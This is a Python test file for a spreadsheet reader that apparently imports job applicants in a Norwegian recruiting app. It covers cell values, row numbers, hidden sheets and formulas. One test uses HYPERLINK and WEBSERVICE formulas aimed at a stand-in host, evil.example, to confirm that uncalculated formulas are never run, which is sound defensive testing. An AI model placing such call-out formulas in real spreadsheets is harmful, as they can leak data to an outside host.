from datetime import date, datetime

from openpyxl import Workbook
from openpyxl.worksheet.formula import ArrayFormula

from samtale.recruiting.domain.import_applicants import read
from tests.factories.spreadsheets import SHEET, sheet_xml, with_member, xlsx_file


def test_reads_text_numbers_and_real_dates() -> None:
    morning = datetime(2025, 11, 12, 9, 30)  # noqa: DTZ001 Excel knows no zones
    row = ["Åse", 40000000, 4.5, date(2025, 11, 12), morning, True, None]
    table = read(xlsx_file([row], headers=["A", "B", "C", "D", "E", "F", "G"]), "a.xlsx")
    assert table.headers == ["A", "B", "C", "D", "E", "F", "G"]
    assert table.rows[0].cells == ["Åse", "40000000", "4.5", "2025-11-12", "2025-11-12T09:30", "True", ""]


def test_row_numbers_are_the_sheets_own() -> None:
    def with_gaps(workbook: Workbook) -> None:
        workbook.active["A7"] = "Ola"

    table = read(xlsx_file([[], ["Kari"]], headers=["Navn"], change=with_gaps), "a.xlsx")
    assert [(row.number, row.cells) for row in table.rows] == [(3, ["Kari"]), (7, ["Ola"])]


def test_what_the_file_is_decides_and_not_its_name() -> None:
    assert read(xlsx_file([["Kari"]], headers=["Navn"]), "a.csv").rows[0].cells == ["Kari"]


def test_reads_the_first_visible_sheet_and_names_the_others() -> None:
    def more_sheets(workbook: Workbook) -> None:
        workbook.active.title = "Søkere"
        hidden = workbook.create_sheet("Lister", 0)
        hidden.sheet_state = "hidden"
        hidden.append(["norsk"])
        workbook.create_sheet("Arkiv").append(["Navn"])

    table = read(xlsx_file([["Kari"]], headers=["Navn"], change=more_sheets), "a.xlsx")
    assert table.headers == ["Navn"]
    assert table.ignored_sheets == ("Arkiv",)


def test_a_formula_counts_as_the_value_that_excel_saved() -> None:
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Navn</t></is></c></row>'
        '<row r="2"><c r="A2" t="str"><f>UPPER("kari")</f><v>KARI</v></c></row>'
    )
    table = read(with_member(xlsx_file([]), SHEET, sheet_xml(rows)), "a.xlsx")
    assert table.rows[0].cells == ["KARI"]


def test_a_formula_that_was_never_calculated_is_empty_and_never_run() -> None:
    formulas = [
        '=HYPERLINK("http://evil.example","x")',
        ArrayFormula("B2", '=WEBSERVICE("http://evil.example")'),
    ]
    table = read(xlsx_file([[*formulas, "Kari"]], headers=["A", "B", "C"]), "a.xlsx")
    assert table.rows[0].cells == ["", "", "Kari"]


def test_formatted_but_empty_rows_and_columns_do_no_harm() -> None:
    rows = (
        '<row r="1"><c r="A1" t="inlineStr"><is><t>Navn</t></is></c><c r="XFD1" s="0"/></row>'
        '<row r="2"><c r="A2" t="inlineStr"><is><t>Kari</t></is></c></row>'
        '<row r="1048576" ht="20"><c r="A1048576" s="0"/></row>'
    )
    table = read(with_member(xlsx_file([]), SHEET, sheet_xml(rows)), "a.xlsx")
    assert [(row.number, row.cells) for row in table.rows] == [(2, ["Kari"])]
